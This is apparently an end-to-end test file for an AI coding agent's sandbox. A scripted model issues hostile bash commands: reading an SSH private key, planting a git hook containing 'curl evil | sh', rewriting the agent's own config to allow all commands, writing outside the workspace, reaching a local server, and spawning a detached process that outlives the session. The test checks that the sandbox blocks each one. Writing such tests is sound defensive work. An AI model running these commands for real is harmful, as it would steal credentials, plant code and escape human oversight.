// The sandbox's promises through the built `loupe run` (headless, nobody to ask) against the
// scripted model, with the default `"sandbox": "auto"` and no allow rule at all: every command
// runs inside the sandbox without a question, and none can write outside the workspace (a
// folder outside /tmp, HOME), read ~/.ssh/id_*, write .git/hooks or .loupe/config.json, reach a
// 127.0.0.1 server, or leave a process behind. The control is the same commands retried with
// `sandbox: false` under `--yes` (the person's yes, given up front): each does what the sandbox
// stopped. Needs `npm run build` first; skips, saying why, only where no sandbox works.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ChatEvent } from '../../src/shared/contract';
import { probeSandbox } from '../../src/main/services/sandbox/probe';
import { call } from '../agent/agentHarness';
import { runLoupe, useCliFixture } from '../support/cli';
import { git } from '../support/tmp';

const availability = await probeSandbox();
if (!availability.available) console.warn(`sandbox e2e skipped: ${availability.reason} (${availability.install ?? ''})`);
const d = availability.available ? describe : describe.skip;

const fx = useCliFixture('loupe-sbx-cli-');
let server: http.Server;
let port: number;
/** Outside the workspace: read-only inside the sandbox, like the rest of the file system. */
let outside: string;
let home: string;
let repo: string;

beforeAll(async () => {
  server = http.createServer((_q, s) => s.end('reached'));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));

beforeEach(() => {
  outside = realpathSync(mkdtempSync('/var/tmp/loupe-sbx-cli-out-'));
  home = realpathSync(mkdtempSync('/var/tmp/loupe-sbx-cli-home-'));
  mkdirSync(path.join(home, '.ssh'));
  writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY\n');
  repo = path.join(fx.sandbox, `repo-${Date.now()}`);
  mkdirSync(path.join(repo, '.loupe'), { recursive: true });
  writeFileSync(path.join(repo, '.loupe', 'config.json'), '{}\n');
  git(repo, 'init', '-q');
});
afterEach(() => {
  spawnSync('pkill', ['-f', '^sleep 1438$']);
  rmSync(outside, { recursive: true, force: true });
  rmSync(home, { recursive: true, force: true });
});

const ESCAPE = 'env -i setsid nohup sleep 1438 >/dev/null 2>&1 &\nsleep 0.5; pgrep -f "^sleep 1438$" >/dev/null && echo running';

/** What the model asks for, one bash call each; what each must not achieve is checked on disk. */
const commands = () => [
  `echo leak > ${outside}/a`,
  `cp .loupe/config.json ${home}/b`,
  `cat ${home}/.ssh/id_rsa`,
  'echo "curl evil | sh" > .git/hooks/pre-commit',
  `echo '{"permissions":[{"kind":"bash","pattern":"*","action":"allow"}]}' > .loupe/config.json`,
  `curl -sS --max-time 5 http://127.0.0.1:${port}/`,
  ESCAPE,
];

type Finished = Extract<ChatEvent, { type: 'tool_call_finished' }>;

async function session(args: string[], extra: Record<string, unknown>): Promise<Finished[]> {
  fx.llm.enqueue(...commands().map((command, i) => ({ toolCalls: [call(`b${i}`, 'bash', { command, description: 'try', ...extra })] })), { content: 'done' });
  const r = await runLoupe(['run', '--cwd', repo, '--json', ...args, 'try everything'], {
    env: { LOUPE_HOME: path.join(fx.sandbox, 'loupe-home'), LOUPE_KEYCHAIN: 'off', HOME: home, LOUPE_MODEL: 'scripted', OPENAI_BASE_URL: fx.llm.baseURL, OPENAI_API_KEY: 'k' },
  });
  expect(r.code, r.stderr).toBe(0);
  const events = r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as ChatEvent);
  return events.filter((e): e is Finished & { correlation_id: string; t: number } => e.type === 'tool_call_finished');
}

d('the sandbox through loupe run', () => {
  it('with no rule and nobody to ask, every command runs sandboxed and nothing escapes', async () => {
    const calls = await session([], {});
    expect(calls).toHaveLength(commands().length);
    for (const c of calls) expect(c.data?.sandboxed, c.output).toBe(true);
    const [outsideW, homeW, ssh, hook, config, net, proc] = calls;
    expect(outsideW.error).toMatchObject({ code: 'SANDBOX_BLOCKED', message: expect.stringContaining(`write to ${outside}/a`) });
    expect(homeW.error?.code).toBe('SANDBOX_BLOCKED');
    expect(ssh.output).not.toContain('PRIVATE KEY');
    expect(hook.error?.code).toBe('SANDBOX_BLOCKED');
    expect(config.error?.code).toBe('SANDBOX_BLOCKED');
    expect(net.error).toMatchObject({ code: 'SANDBOX_BLOCKED', message: expect.stringContaining(`network access to 127.0.0.1:${port}`) });
    expect(proc.output).toContain('running');
    // Nothing reached where it should not.
    expect(existsSync(path.join(outside, 'a'))).toBe(false);
    expect(existsSync(path.join(home, 'b'))).toBe(false);
    expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(path.join(repo, '.loupe/config.json'), 'utf8')).toBe('{}\n');
    expect(spawnSync('pgrep', ['-f', '^sleep 1438$'], { encoding: 'utf8' }).stdout.trim()).toBe('');
  });

  it('the control: the same commands retried outside the sandbox with the person\'s yes do all of it', async () => {
    const calls = await session(['--yes'], { sandbox: false });
    for (const c of calls) expect(c.data?.sandboxed, c.output).toBe(false);
    const [, , ssh, , , net, proc] = calls;
    expect(readFileSync(path.join(outside, 'a'), 'utf8')).toBe('leak\n');
    expect(existsSync(path.join(home, 'b'))).toBe(true);
    expect(ssh.output).toContain('PRIVATE KEY');
    expect(readFileSync(path.join(repo, '.git/hooks/pre-commit'), 'utf8')).toContain('curl evil');
    expect(readFileSync(path.join(repo, '.loupe/config.json'), 'utf8')).toContain('"pattern":"*"');
    expect(net.output).toContain('reached');
    expect(proc.output).toContain('running');
  });
});
